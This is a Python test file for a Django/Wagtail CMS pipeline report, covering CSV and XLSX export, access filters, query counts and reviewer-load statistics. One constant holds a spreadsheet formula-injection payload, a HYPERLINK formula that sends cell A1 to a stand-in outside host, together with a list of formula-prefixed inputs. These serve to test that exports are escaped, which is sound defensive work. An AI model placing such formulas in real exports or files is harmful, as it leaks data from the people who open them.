"""The pipeline report with its spreadsheets, and the load of reviewers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.db import connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook
from wagtail.models import TaskState

from cms.desk import duties, load
from cms.desk.models import Duty
from cms.desk.spreadsheets import safe_for_csv
from tests.cms.many import multiply
from tests.factories import World, find_world, fresh, make_paper
from tests.workflows import approve, publish_through_review, send_back, submit

PIPELINE = "/admin/reports/pipeline/"
BRUSSELS = ZoneInfo("Europe/Brussels")
EVIL = '=HYPERLINK("https://elsewhere.example/"&A1,"A paper")'


def rows_of(client: Client, user: Any, query: str = "") -> list[dict[str, str]]:
    """Return the report as its CSV has it."""
    client.force_login(user)
    response = client.get(f"{PIPELINE}?export=csv&{query}")
    text = b"".join(response).decode()
    return list(csv.DictReader(io.StringIO(text)))


@pytest.fixture
def busy(world: World) -> World:
    """One paper in each of some states."""
    make_paper(world, title="A draft")
    waiting = make_paper(world, title="Waiting")
    submit(waiting, world.editor)
    duties.take(Duty.objects.get(page=waiting), world.reviewer)
    returned = make_paper(world, title="Returned")
    submit(returned, world.editor)
    send_back(returned, world.reviewer)
    elsewhere = make_paper(world, title="Elsewhere", topic=world.other_topic)
    submit(elsewhere, world.editor)
    Duty.objects.filter(page=elsewhere).update(due_on=dt.date(2026, 1, 2))
    publish_through_review(make_paper(world, title="Public"), world)
    return world


def test_every_page_is_there_with_state_step_age_holder_and_date(
    client: Client, busy: World
) -> None:
    rows = {row["Title"]: row for row in rows_of(client, busy.editor)}
    waiting = rows["Waiting"]
    assert waiting["State"] == "Waits for: Working group review"
    assert (waiting["Step"], waiting["Who"]) == ("Working group review", "reviewer.wg3")
    assert (waiting["Days"], waiting["Type"], waiting["Language"]) == ("0", "Policy paper", "en")
    assert waiting["Due on"] == Duty.objects.get(page__title="Waiting").due_on.isoformat()
    assert (rows["A draft"]["State"], rows["A draft"]["Who"]) == ("Draft", "editor.bg")
    assert rows["Returned"]["State"] == "Sent back"
    assert rows["Elsewhere"]["Who"] == "Nobody is on it yet"
    assert rows["Public"]["State"] == "Published"


def test_somebody_sees_what_concerns_them(client: Client, busy: World) -> None:
    everything = {row["Title"] for row in rows_of(client, busy.administrator)}
    assert {"A draft", "Waiting", "Elsewhere", "Library"} <= everything
    for role in ("reviewer", "outsider"):
        seen = {row["Title"] for row in rows_of(client, busy.users[role])}
        assert ("Elsewhere" in seen) == (role == "outsider")
        assert ("Waiting" in seen) == (role == "reviewer")
        assert "Library" not in seen


def test_filters_of_the_report(client: Client, busy: World) -> None:
    def titles(query: str) -> set[str]:
        return {row["Title"] for row in rows_of(client, busy.editor, query)}

    assert titles("state=sent_back") == {"Returned"}
    assert titles("topic=skills") == {"Elsewhere"}
    assert titles("due=overdue") == {"Elsewhere"}
    assert titles("due=in_time") == {"Waiting"}
    assert titles("who=nobody") == {"Elsewhere"}
    assert titles(f"who={busy.reviewer.pk}") == {"Waiting"}
    assert titles("show=open") == {"A draft", "Waiting", "Returned", "Elsewhere"}
    assert titles("type=policies.policypaper&state=public") == {"Public"}
    client.force_login(busy.editor)
    page = client.get(f"{PIPELINE}?topic=skills")
    assert "Elsewhere" in page.content.decode()
    assert "days late" in page.content.decode()
    for order in ("draft_title", "-state", "-since", "duty_due", "nonsense"):
        assert client.get(f"{PIPELINE}?ordering={order}").status_code == 200


def test_no_title_becomes_a_formula(client: Client, world: World) -> None:
    make_paper(world, title=EVIL)
    make_paper(world, title="Bell\x07 and\x0b others")
    titles = {row["Title"] for row in rows_of(client, world.editor)}
    assert f"'{EVIL}" in titles
    assert EVIL not in titles
    response = client.get(f"{PIPELINE}?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response))).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert cells[EVIL] == "s"
    assert cells["Bell and others"] == "s"
    assert "f" not in cells.values()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("\r\n-2", "'\r\n-2"),
        ("A-1", "A-1"),
        ("", ""),
        (-1, -1),
        (dt.date(2026, 1, 1), dt.date(2026, 1, 1)),
    ],
)
def test_cells_are_guarded(value: Any, expected: Any) -> None:
    assert safe_for_csv(value) == expected


def test_the_report_asks_the_same_for_two_and_for_thirty_pages(
    client: Client, world: World
) -> None:
    client.force_login(world.editor)

    def asked(address: str) -> int:
        client.get(address)
        with CaptureQueriesContext(connection) as captured:
            response = client.get(address)
            if response.streaming:
                b"".join(response)
        return len(captured)

    addresses = [PIPELINE, f"{PIPELINE}?export=csv", f"{PIPELINE}?export=xlsx"]
    for number in range(2):
        paper = make_paper(world, title=f"Paper {number}")
        submit(paper, world.editor)
    with_two = [asked(address) for address in addresses]
    multiply(fresh(paper), 30)
    assert [asked(address) for address in addresses] == with_two


# --- Load -------------------------------------------------------------------------------------


def at(day: int, hour: int = 9) -> dt.datetime:
    return dt.datetime(2026, 10, day, hour, tzinfo=BRUSSELS)


@pytest.fixture(scope="module")
def acted(django_db_setup: None, django_db_blocker: Any) -> Iterator[None]:
    """The history, acted once for this module and rolled back after it."""
    with django_db_blocker.unblock(), transaction.atomic():
        act(find_world())
        yield
        transaction.set_rollback(True)


@pytest.fixture
def history(acted: None, world: World) -> World:
    """A world with the history of :func:`act`."""
    return world


def act(world: World) -> None:
    """Three working group reviews of 2, 4 and 9 days, one sent back, and one editorial one."""
    with time_machine.travel(at(1), tick=False) as clock:
        papers = [make_paper(world, title=f"Paper {number}") for number in range(3)]
        for paper in papers:
            submit(paper, world.editor)
        clock.move_to(at(3), tick=False)
        approve(papers[0], world.reviewer)
        clock.move_to(at(4), tick=False)
        approve(papers[0], world.publisher)
        clock.move_to(at(5), tick=False)
        send_back(papers[1], world.reviewer)
        clock.move_to(at(10), tick=False)
        approve(papers[2], world.reviewer)


def test_number_median_and_longest_by_person_and_step(history: World) -> None:
    found = {
        (line.who, line.step): (line.number, line.sent_back, line.median, line.longest)
        for line in load.finished(dt.date(2026, 10, 1), dt.date(2026, 10, 31))
    }
    assert found == {
        ("Everybody", "Working group review"): (3, 1, 4.0, 9.0),
        ("reviewer.wg3", "Working group review"): (3, 1, 4.0, 9.0),
        ("Everybody", "Editorial approval"): (1, 0, 1.0, 1.0),
        ("publisher.eu", "Editorial approval"): (1, 0, 1.0, 1.0),
    }


def test_a_period_counts_its_first_and_its_last_day_whole(history: World) -> None:
    TaskState.objects.filter(finished_at=at(10)).update(
        finished_at=dt.datetime(2026, 10, 10, 23, 59, tzinfo=BRUSSELS)
    )

    def number(first: int, last: int) -> int:
        lines = load.finished(dt.date(2026, 10, first), dt.date(2026, 10, last))
        return sum(line.number for line in lines if line.everybody)

    assert number(1, 31) == 4
    assert number(3, 3) == 1
    assert number(10, 10) == 1
    assert number(11, 31) == 0


def test_what_nobody_s_account_stands_behind_is_counted(history: World) -> None:
    history.publisher.delete()
    names = {line.who for line in load.finished(dt.date(2026, 10, 1), dt.date(2026, 10, 31))}
    assert "Outside experts and deleted accounts" in names


def test_the_load_is_for_administrators(client: Client, history: World) -> None:
    for role, user in history.users.items():
        client.force_login(user)
        response = client.get("/admin/reports/load/?first=2026-10-01&last=2026-10-31")
        allowed = role in {"administrator", "superuser"}
        assert (response.status_code == 200) == allowed, role
        if allowed:
            text = response.content.decode()
            assert "reviewer.wg3" in text
            assert "9.0" in text
    client.force_login(history.administrator)
    page = client.get("/admin/reports/load/?first=2026-10-31&last=2026-10-01")
    assert "The period ends before it begins." in page.content.decode()
    assert client.get("/admin/reports/load/?first=nonsense").status_code == 200


def test_the_load_says_what_waits_now(history: World) -> None:
    with time_machine.travel(at(20), tick=False):
        (line,) = load.waiting_now()
    # Paper 2 waits for the editorial step since the tenth.
    assert (line.step, line.number, line.longest) == ("Editorial approval", 1, 10.0)
    assert line.overdue == 1


def test_the_load_is_asked_with_one_query(history: World, django_assert_num_queries: Any) -> None:
    with django_assert_num_queries(1):
        load.finished(dt.date(2026, 10, 1), dt.date(2026, 10, 31))
